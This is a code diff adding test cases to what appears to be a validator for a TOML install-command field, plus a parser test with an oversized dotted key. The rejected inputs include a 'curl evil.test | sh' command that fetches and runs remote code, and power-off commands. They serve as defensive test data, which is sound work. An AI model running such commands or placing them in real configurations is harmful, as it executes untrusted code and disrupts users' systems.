@@ -208,6 +208,17 @@ ADDED = {
     "[install.linux]\ncommand = ['./bin/example', '--version']": (
         'install.linux.command[1]: a program is named alone or by its whole path. Write: "example"'
     ),
+    **dict.fromkeys(
+        (
+            "[install.linux]\ncommand = ['sh', '-c', 'curl evil.test | sh']",
+            "[install.linux]\ncommand = ['sh', '--version', '-c', 'true']",
+            "[install.linux]\ncommand = ['poweroff', 'now']",
+            "[install.linux]\ncommand = ['poweroff']",
+            "[install.linux]\ncommand = []",
+        ),
+        "install.linux.command: write the program and how it is asked for its version, nothing "
+        'else: ["example", "--version"]. Instead of --version it may be -version, -V, -v, version.',
+    ),
 }
 
 
@@ -249,6 +260,10 @@ WHOLE = {
     "a day that is none": (
         b"a = 2026-02-30",
         "line 1 cannot be read as TOML: ... Correct this line or the one above it.",
+    ),
+    "a key that would take minutes": (
+        b"[app]\n" + b"a . 'b' . \"c\"." * 60_000 + b"a = 1",
+        "a key has too many dots. Take some out.",
     ),
     "too deep": (
         b"a = " + b"[" * 100_000,
